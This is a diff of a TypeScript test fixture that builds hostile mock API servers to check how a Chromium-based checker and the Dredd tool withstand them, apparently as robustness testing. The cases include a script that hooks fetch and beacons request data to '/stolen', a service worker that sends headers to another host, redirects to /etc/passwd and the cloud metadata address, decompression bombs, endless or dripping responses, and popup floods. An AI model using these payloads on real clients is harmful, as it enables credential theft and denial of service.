@@ -1,123 +1,93 @@
 import { on } from '../fault-kit/on.ts';
-import {
-  ANY_VERDICT,
-  API,
-  answers,
-  at,
-  BOMB,
-  choose,
-  continueStorm,
-  dripping,
-  drips,
-  endless,
-  forAgent,
-  head,
-  headerFlood,
-  holds,
-  hostileTable,
-  json,
-  keyOf,
-  leadsElsewhere,
-  over,
-  PERSON,
-  packed,
-  redirects,
-  resets,
-  type Scene,
-  type Serve,
-  type Stage,
-  sends,
-  status,
-  withHeaders,
-} from './kit.ts';
+import * as kit from './kit.ts';
 
 /** What Chromium is answered; every other client meets the reference. */
-function toChromium(serve: Serve, more: Pick<Scene, 'elsewhere'> = {}): Scene {
-  return { ...driven('browser', '--no-dredd'), serves: forAgent(/Chrome/, serve), ...more };
+function toChromium(serve: kit.Serve, more: Pick<kit.Scene, 'elsewhere'> = {}): kit.Scene {
+  return { ...driven('browser', '--no-dredd'), serves: kit.forAgent(/Chrome/, serve), ...more };
 }
 
-function toDredd(serve: Serve): Scene {
-  return { ...driven('dredd', '--no-browser'), serves: forAgent(/dredd/i, serve) };
+function toDredd(serve: kit.Serve): kit.Scene {
+  return { ...driven('dredd', '--no-browser'), serves: kit.forAgent(/dredd/i, serve) };
 }
 
-function salesToDredd(body: () => string): Scene {
-  return toDredd(at('/sales', json(body)));
+function salesToDredd(body: () => string): kit.Scene {
+  return toDredd(kit.at('/sales', kit.json(body)));
 }
 
-function driven(area: string, without: string): Scene {
+function driven(area: string, without: string): kit.Scene {
   return {
     command: ({ url }) => ['check', url, '--only', area, without, '--max-duration', '45s', '--format', 'html,json'],
-    says: ANY_VERDICT,
+    says: kit.ANY_VERDICT,
     within: 600,
   };
 }
 
 /** The reference, except for the description, which is this page. */
-function page(script: string | ((stage: Stage) => string)): Serve {
-  const text = (stage: Stage) =>
+function page(script: string | ((stage: kit.Stage) => string)): kit.Serve {
+  const text = (stage: kit.Stage) =>
     `<!doctype html><script>${typeof script === 'string' ? script : script(stage)}</script>`;
-  return document(answers(200, { 'content-type': 'text/html' }, text));
+  return document(kit.answers(200, { 'content-type': 'text/html' }, text));
 }
 
-function document(serve: Serve): Serve {
-  return choose(({ url = '' }) => url === `${API}/openapi.json`, serve);
+function document(serve: kit.Serve): kit.Serve {
+  return kit.choose(({ url = '' }) => url === `${kit.API}/openapi.json`, serve);
 }
 
-function me(serve: Serve): Serve {
-  return choose(({ url = '' }) => url === `${API}/me`, serve);
+function me(serve: kit.Serve): kit.Serve {
+  return kit.choose(({ url = '' }) => url === `${kit.API}/me`, serve);
 }
 
-const meElsewhere: Serve = redirects(({ elsewhere }) => `${elsewhere}/me`, 307);
+const meElsewhere: kit.Serve = kit.redirects(({ elsewhere }) => `${elsewhere}/me`, 307);
 
 /** Sends what is asked through fetch in a window to its own origin. */
 const STEAL = `function steal(w) { try { const real = w.fetch; if (real.isHooked) return; w.fetch = (u, o) => { navigator.sendBeacon('/stolen', JSON.stringify(o)); return real(u, o); }; w.fetch.isHooked = true; } catch {} }`;
 
 /** The page of a third origin that hooks fetch, and opens a popup which leads it back. */
-const thief: Serve =
+const thief: kit.Serve =
   ({ url }) =>
   (request, response) => {
     response.setHeader('content-type', 'text/html');
     response.setHeader('access-control-allow-origin', '*');
     response.setHeader('access-control-allow-headers', '*');
-    const popup = `setInterval(() => steal(opener), 3); setTimeout(() => { opener.location = '${url}${API}/openapi.json'; }, 300);`;
+    const popup = `setInterval(() => steal(opener), 3); setTimeout(() => { opener.location = '${url}${kit.API}/openapi.json'; }, 300);`;
     const opener = `steal(window); open('/popup'); document.onclick = () => open('/popup');`;
     response.end(`<!doctype html><script>${STEAL}; ${request.url === '/popup' ? popup : opener}</script>`);
   };
 
 /** Deployments that are hostile to Chromium alone. */
-export const browserRows = hostileTable`
+export const browserRows = kit.hostileTable`
   0,1,3 browser-sent-to-a-thief: The description leads to a page that hooks fetch and opens a popup
-    ${toChromium(document(redirects(({ elsewhere }) => `${elsewhere}/thief`)), { elsewhere: thief })}
+    ${toChromium(document(kit.redirects(({ elsewhere }) => `${elsewhere}/thief`)), { elsewhere: thief })}
   0,1,3 browser-sent-away-with-the-key: The answer to a request with the key leads to another origin
     ${toChromium(me(meElsewhere))}
   0,1,3 browser-preflight-sent-away: The preflight leads to another origin
-    ${toChromium(choose(({ method }) => method === 'OPTIONS', meElsewhere))}
+    ${toChromium(kit.choose(({ method }) => method === 'OPTIONS', meElsewhere))}
   0,1,3 browser-endless-download: The description is a file to save that has no end, and /me is slow
     ${toChromium((stage) => {
       const [file, slow] = [
-        document(endless('application/octet-stream', '', ['content-disposition: attachment; filename=x']))(stage),
-        me(dripping)(stage),
+        document(kit.endless('application/octet-stream', '', ['content-disposition: attachment; filename=x']))(stage),
+        me(kit.dripping)(stage),
       ];
       return (request, response) => (request.url?.endsWith('/me') ? slow : file)(request, response);
     })}
   0,1,3 browser-many-downloads: A page saves one file after the other
     ${toChromium(page(`setInterval(() => { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([new Uint8Array(5e6)])); a.download = 'x'; a.click(); }, 20)`))}
-  0,1,3 browser-endless-page: A page without an end ${toChromium(document(endless('text/html', '<!doctype html><p>')))}
+  0,1,3 browser-endless-page: A page without an end ${toChromium(document(kit.endless('text/html', '<!doctype html><p>')))}
   0,1,3 browser-endless-me: The answer to a request with the key has no end
-    ${toChromium(me(endless('application/json', '{"data":"', ['access-control-allow-origin: *', 'access-control-allow-headers: authorization'])))}
+    ${toChromium(me(kit.endless('application/json', '{"data":"', ['access-control-allow-origin: *', 'access-control-allow-headers: authorization'])))}
   0,1,3 browser-bomb: The description is half a gigabyte, packed
-    ${toChromium(document(answers(200, { 'content-encoding': 'gzip', 'content-type': 'text/html' }, BOMB)))}
-  0,1,3 browser-hanging-document: The description never comes ${toChromium(document(holds))}
+    ${toChromium(document(kit.answers(200, { 'content-encoding': 'gzip', 'content-type': 'text/html' }, kit.BOMB)))}
+  0,1,3 browser-hanging-document: The description never comes ${toChromium(document(kit.holds))}
   0,1,3 browser-slow-document: The description comes at one byte a second
-    ${toChromium(document(sends(head(['content-type: text/html']), drips(1000))))}
+    ${toChromium(document(kit.sends(kit.head(['content-type: text/html']), kit.drips(1000))))}
   0,1,3 browser-loop: The description leads to itself
-    ${toChromium(document(redirects(({ url }) => `${url}${API}/openapi.json`)))}
+    ${toChromium(document(kit.redirects(({ url }) => `${url}${kit.API}/openapi.json`)))}
   0,1,3 browser-sent-to-a-file: The description leads to a file of this machine
-    ${toChromium(document(redirects('file:///etc/passwd')))}
+    ${toChromium(document(kit.redirects('file:///etc/passwd')))}
   0,1,3 browser-sent-to-metadata: The description leads to the credentials of a cloud machine
-    ${toChromium(document(redirects('http://169.254.169.254/latest/meta-data/')))}
+    ${toChromium(document(kit.redirects('http://169.254.169.254/latest/meta-data/')))}
   0,1,3 browser-popups: A page opens windows as fast as it can
-    ${toChromium(page(`setInterval(() => open('${API}/openapi.json'), 10)`))}
+    ${toChromium(page(`setInterval(() => open('${kit.API}/openapi.json'), 10)`))}
   0,1,3 browser-dialogs: A page shows one dialog after the other, and another when it is left
     ${toChromium(page(`onbeforeunload = () => { alert(1); return 'stay'; }; setInterval(() => { alert(1); confirm(2); prompt(3); print(); }, 10)`))}
   0,1,3 browser-busy-page: A page computes for ever ${toChromium(page('for (;;) {}'))}
@@ -135,7 +105,7 @@ export const browserRows = hostileTable`
     )}
   0,1,3 browser-worker: A page registers a service worker that would answer in place of the deployment
     ${toChromium(
-      choose(
+      kit.choose(
         ({ url = '' }) => url.includes('/openapi.json'),
         (stage) => (request, response) => {
           const isWorker = request.headers['service-worker'] !== undefined;
@@ -144,34 +114,34 @@ export const browserRows = hostileTable`
           response.end(
             isWorker
               ? `onfetch = (e) => fetch('${stage.elsewhere}/stolen?' + [...e.request.headers])`
-              : `<script>navigator.serviceWorker.register('${API}/openapi.json?sw', { scope: '/' })</script>`,
+              : `<script>navigator.serviceWorker.register('${kit.API}/openapi.json?sw', { scope: '/' })</script>`,
           );
         },
       ),
     )}
   0,1,3 browser-cookies: A thousand cookies with every answer, one with the key
-    ${toChromium(withHeaders((stage) => ({ 'set-cookie': [`key=${keyOf(stage)}`, `${keyOf(stage)}=1`, ...Array.from({ length: 998 }, (_, index) => `c${index}=${'v'.repeat(20)}; Max-Age=9999999`)] })))}
-  0,1,3 browser-status-999: Chromium is answered with 999 ${toChromium(status('999 X'))}
-  0,1,3 browser-resets: Every connection of Chromium is reset ${toChromium(resets)}
+    ${toChromium(kit.withHeaders((stage) => ({ 'set-cookie': [`key=${kit.keyOf(stage)}`, `${kit.keyOf(stage)}=1`, ...Array.from({ length: 998 }, (_, index) => `c${index}=${'v'.repeat(20)}; Max-Age=9999999`)] })))}
+  0,1,3 browser-status-999: Chromium is answered with 999 ${toChromium(kit.status('999 X'))}
+  0,1,3 browser-resets: Every connection of Chromium is reset ${toChromium(kit.resets)}
   0,1,3 browser-refresh-headers: Headers lead on, and name other hosts for later
-    ${toChromium(withHeaders(({ elsewhere }) => ({ refresh: `0; url=${elsewhere}/refreshed`, link: `<${elsewhere}/style.css>; rel=preload; as=style`, 'alt-svc': `h2="${new URL(elsewhere).host}"` })))}
+    ${toChromium(kit.withHeaders(({ elsewhere }) => ({ refresh: `0; url=${elsewhere}/refreshed`, link: `<${elsewhere}/style.css>; rel=preload; as=style`, 'alt-svc': `h2="${new URL(elsewhere).host}"` })))}
 `;
 
 /** Deployments that are hostile to Dredd alone. */
-export const dreddRows = hostileTable`
-  1,3 dredd-endless-body: Every body for Dredd goes on for ever ${toDredd(endless())}
-  1,3 dredd-bomb: Every body is half a gigabyte, packed ${toDredd(packed('gzip', BOMB))}
-  1,3 dredd-slow-body: Every body comes at one byte a second ${toDredd(dripping)}
+export const dreddRows = kit.hostileTable`
+  1,3 dredd-endless-body: Every body for Dredd goes on for ever ${toDredd(kit.endless())}
+  1,3 dredd-bomb: Every body is half a gigabyte, packed ${toDredd(kit.packed('gzip', kit.BOMB))}
+  1,3 dredd-slow-body: Every body comes at one byte a second ${toDredd(kit.dripping)}
   1,3 dredd-slow-header: A header that comes at one byte a second, and has no end
-    ${toDredd(sends('HTTP/1.1 200 OK\r\nx-slow: ', drips(1000)))}
+    ${toDredd(kit.sends('HTTP/1.1 200 OK\r\nx-slow: ', kit.drips(1000)))}
   1,3 dredd-redirect: Every request of Dredd is redirected to another origin, with the key in the address
-    ${toDredd(leadsElsewhere(307, (stage) => `?key=${keyOf(stage)}`))}
-  1,3 dredd-header-flood: Headers without an end ${toDredd(headerFlood)}
-  1,3 dredd-status-099: Every status is 099 ${toDredd(status('099 X'))}
-  1,3 dredd-resets: Every connection is reset ${toDredd(resets)}
-  1,3 dredd-continue-storm: 100 Continue for ever ${toDredd(continueStorm)}
+    ${toDredd(kit.leadsElsewhere(307, (stage) => `?key=${kit.keyOf(stage)}`))}
+  1,3 dredd-header-flood: Headers without an end ${toDredd(kit.headerFlood)}
+  1,3 dredd-status-099: Every status is 099 ${toDredd(kit.status('099 X'))}
+  1,3 dredd-resets: Every connection is reset ${toDredd(kit.resets)}
+  1,3 dredd-continue-storm: 100 Continue for ever ${toDredd(kit.continueStorm)}
   1,3 dredd-deep-body: Every body is a million lists within each other
-    ${toDredd(answers(200, {}, `{"data":${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}}`))}
+    ${toDredd(kit.answers(200, {}, `{"data":${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}}`))}
   1,3 dredd-wrong-records: The list of sales has fifteen million wrong records
     ${salesToDredd(() => `{"data":[${'0,'.repeat(15e6)}0]}`)}
   1,3 dredd-wide-record: A record of the list of sales has fifteen million values
@@ -179,13 +149,13 @@ export const dreddRows = hostileTable`
   1,3 dredd-text: The list of sales is 31 MB that are not JSON ${salesToDredd(() => 'a'.repeat(31e6))}
   1,3 dredd-echo: Every body and header repeats the key and a customer
     ${toDredd((stage) =>
-      over(
+      kit.over(
         on.anything.changeResponse((response, { request }) => ({
           ...response,
-          headers: { ...response.headers, 'x-key': keyOf(stage) },
+          headers: { ...response.headers, 'x-key': kit.keyOf(stage) },
           body: JSON.stringify({
-            [keyOf(stage)]: PERSON,
-            data: [{ [PERSON.email]: request.headers, [keyOf(stage)]: 1 }],
+            [kit.keyOf(stage)]: kit.PERSON,
+            data: [{ [kit.PERSON.email]: request.headers, [kit.keyOf(stage)]: 1 }],
           }),
         })),
       )(stage),
